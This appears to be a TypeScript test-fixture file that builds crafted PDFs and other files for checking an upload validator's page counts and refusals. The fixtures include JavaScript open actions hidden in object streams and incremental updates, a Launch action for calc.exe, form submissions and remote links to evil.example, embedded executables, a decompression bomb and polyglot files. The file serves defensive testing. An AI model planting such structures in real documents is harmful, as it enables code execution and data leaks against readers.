import sharp from 'sharp';
import { drawing, hiddenScript, makePdf, onePagePdf, streamObject } from '../imaging/opening/hostile.testing.ts';

/** The expected outcome for a document: its page count, or the code of its refusal. */
export type Outcome =
  | number
  | 'EFILE_FORMAT'
  | 'EFILE_UNREADABLE'
  | 'EFILE_PROTECTED'
  | 'EFILE_ACTIVE'
  | 'EFILE_TOO_MANY_PAGES';
export type TestDocument = readonly [description: string, bytes: Buffer, outcome: Outcome];

// In a PDF of one page, the further objects have the numbers from 5 on (see `onePagePdf`). '6 0 R' refers to object 6.
const MOVIE = '<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>';
const EMBEDDED_FILE = '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>';
const FILE_STREAM = streamObject(Buffer.from('MZ'), 0, '/Type /EmbeddedFile');
const SCRIPT = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
/** A PDF whose catalog and open action are in an object stream, with a cross-reference stream instead of a table. */
function inCompressedObjects(action: string): Buffer {
  const packed = [
    [1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>'],
    [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
    [3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'],
    [4, action],
  ] as const;
  let text = '';
  const offsets = packed.map(([number, object]) => {
    const entry = `${number} ${text.length}`;
    text += `${object} `;
    return entry;
  });
  const index = `${offsets.join(' ')} `;
  const stream = streamObject(Buffer.from(index + text), 1, `/Type /ObjStm /N ${packed.length} /First ${index.length}`);
  const before = Buffer.from('%PDF-1.7\n', 'latin1');
  const objects = Buffer.concat([Buffer.from('5 0 obj\n'), stream, Buffer.from('\nendobj\n')]);
  const tableAt = before.length + objects.length;
  const row = (kind: number, a: number, b: number): Buffer => {
    const bytes = Buffer.alloc(6);
    bytes.writeUInt8(kind, 0);
    bytes.writeUInt32BE(a, 1);
    bytes.writeUInt8(b, 5);
    return bytes;
  };
  const rows = Buffer.concat([
    row(0, 0, 255),
    ...packed.map((_, position) => row(2, 5, position)),
    row(1, before.length, 0),
    row(1, tableAt, 0),
  ]);
  const table = streamObject(rows, 1, '/Type /XRef /W [1 4 1] /Size 7 /Root 1 0 R');
  const end = Buffer.from(`\nendobj\nstartxref\n${tableAt}\n%%EOF\n`);
  return Buffer.concat([before, objects, Buffer.from('6 0 obj\n'), table, end]);
}

const annotated = (annotation: string, ...more: (string | Buffer)[]): Buffer =>
  onePagePdf(drawing, { page: '/Annots [5 0 R]', more: [annotation, ...more] });
const pdfOfPages = (count: number): Buffer =>
  makePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${Array.from({ length: count }, (_, index) => `${index + 3} 0 R`).join(' ')}] /Count ${count} >>`,
    ...Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'),
  ]);
/** Appends a newer catalog to a file, as an editor does in an incremental update. */
function withUpdate(pdf: Buffer, catalog: string): Buffer {
  const text = pdf.toString('latin1');
  const before = /startxref\n(\d+)/.exec(text)?.[1] ?? '0';
  const object = `1 0 obj\n${catalog}\nendobj\n`;
  const table = `xref\n1 1\n${String(pdf.length).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev ${before} >>\nstartxref\n${pdf.length + object.length}\n%%EOF\n`;
  return Buffer.concat([pdf, Buffer.from(object + table, 'latin1')]);
}
const replaced = (pdf: Buffer, pattern: RegExp, by: string): Buffer =>
  Buffer.from(pdf.toString('latin1').replace(pattern, by), 'latin1');

/** Replaces the cross-reference table. */
const withTable = (pdf: Buffer, table: string): Buffer => {
  const text = pdf.toString('latin1');
  return Buffer.from(text.slice(0, text.indexOf('xref\n0')) + table + text.slice(text.indexOf('trailer')), 'latin1');
};

const linkTo = (action: string): Buffer =>
  annotated(`<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A ${action} >>`);

/** PDFs that run or open something, which are all refused. */
function activePdfs(): readonly TestDocument[] {
  const all: readonly (readonly [string, Buffer])[] = [
    ['a script in compressed objects', inCompressedObjects(SCRIPT)],
    [
      'a script added by an incremental update',
      withUpdate(onePagePdf(drawing), `<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>`),
    ],
    ['a link that runs a script', linkTo(SCRIPT)],
    ['a script between two streams that seem to be one', hiddenScript()],
    ['a script that follows another action of a link', linkTo(`<< /S /URI /URI (x) /Next ${SCRIPT} >>`)],
    [
      'a named script',
      onePagePdf(drawing, { catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', more: [SCRIPT] }),
    ],
    ['a link that starts a program', linkTo('<< /S /Launch /F (calc.exe) >>')],
    ['a link to a file on a server', linkTo('<< /S /GoToR /F (//evil.example/a) /D [0 /Fit] >>')],
    ['a link that submits a form', linkTo('<< /S /SubmitForm /F (http://evil.example) >>')],
    [
      'an attached file',
      annotated('<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>', FILE_STREAM, EMBEDDED_FILE),
    ],
    ['an associated file', onePagePdf(drawing, { catalog: '/AF [5 0 R]', more: [EMBEDDED_FILE, FILE_STREAM] })],
    ['a movie', annotated(MOVIE)],
    [
      'an XFA form',
      onePagePdf(drawing, {
        catalog: '/AcroForm << /XFA 5 0 R /Fields [] >>',
        more: [streamObject(Buffer.from('<xdp/>'), 0)],
      }),
    ],
  ];
  return all.map(([description, bytes]) => [description, bytes, 'EFILE_ACTIVE']);
}

/** PDFs as printers, editors and attackers make them. */
export function craftedPdfs(): readonly TestDocument[] {
  const one = onePagePdf(drawing);
  return [
    ...activePdfs(),
    ['a cross-reference offset beyond the end of the file', replaced(one, /startxref\n\d+/, 'startxref\n99999999'), 1],
    ['a cross-reference table with invalid content', withTable(one, 'xref\n0 5\nrubbish\n'), 1],
    ['no cross-reference table', withTable(one, ''), 1],
    ['neither cross-reference table nor trailer', one.subarray(0, one.lastIndexOf('xref\n0')), 'EFILE_UNREADABLE'],
    ['a future version of PDF', replaced(one, /%PDF-1\.7/, '%PDF-2.9'), 1],
    ['a link to a website', linkTo('<< /S /URI /URI (https://example.com) >>'), 1],
    ['a PDF followed by a zip file', Buffer.concat([one, Buffer.from('PK\u0003\u0004 a program', 'latin1')]), 1],
    [
      'content that unpacks to 256 MB',
      onePagePdf(streamObject(Buffer.alloc(256 * 1024 * 1024, ' '), 2)),
      'EFILE_UNREADABLE',
    ],
    ['1,000 pages', pdfOfPages(1_000), 1_000],
    ['10,000 pages', pdfOfPages(10_000), 'EFILE_TOO_MANY_PAGES'],
    ['a wrong page count', replaced(one, /\/Count 1/, '/Count 2147483647'), 1],
    ['a page to open at, in compressed objects', inCompressedObjects('[3 0 R /Fit]'), 1],
    ['a password', passwordProtected(), 'EFILE_PROTECTED'],
    ['nothing after the signature', Buffer.from('%PDF-1.7\n'), 'EFILE_UNREADABLE'],
    [
      'a page object that is missing',
      replaced(one, /\/Kids \[3 0 R\] \/Count 1/, '/Kids [3 0 R 99 0 R] /Count 2'),
      'EFILE_UNREADABLE',
    ],
    ['the first half of a PDF', one.subarray(0, one.length / 2), 'EFILE_UNREADABLE'],
  ];
}

function passwordProtected(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R >>',
  ];
  const keys = `/O <${'a'.repeat(64)}> /U <${'b'.repeat(64)}>`;
  return makePdf(objects, `/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 ${keys} >> /ID [<00> <00>]`);
}

/** Files that are neither PDF nor TIFF. */
export async function otherFiles(): Promise<readonly TestDocument[]> {
  const picture = sharp({ create: { width: 64, height: 64, channels: 3, background: 'blue' } });
  const pdf = onePagePdf(drawing);
  const pdfAfter = (prefix: string): Buffer => Buffer.concat([Buffer.from(prefix, 'latin1'), pdf]);
  const all: readonly (readonly [string, Buffer])[] = [
    ['an empty file', Buffer.alloc(0)],
    ['one byte', Buffer.from('%')],
    ['a JPEG', await picture.clone().jpeg().toBuffer()],
    ['a PNG', await picture.clone().png().toBuffer()],
    ['a WebP', await picture.clone().webp().toBuffer()],
    ['a GIF', await picture.clone().gif().toBuffer()],
    ['a Word document', Buffer.from('PK\u0003\u0004[Content_Types].xml', 'latin1')],
    ['PostScript', Buffer.from('%!PS-Adobe-3.0\n')],
    ['HTML followed by a PDF', pdfAfter('<html><script>alert(1)</script>')],
    ['a zip signature followed by a PDF', pdfAfter('PK\u0003\u0004')],
    ['a GIF signature followed by a PDF', pdfAfter('GIF89a')],
    ['a byte order mark followed by a PDF', pdfAfter('\u00ef\u00bb\u00bf')],
    ['a TIFF with an unknown version number', Buffer.from('II\x2b\x01\x08\0\0\0', 'latin1')],
    ['plain text', Buffer.from('Dear county,')],
  ];
  return all.map(([description, bytes]) => [description, bytes, 'EFILE_FORMAT']);
}
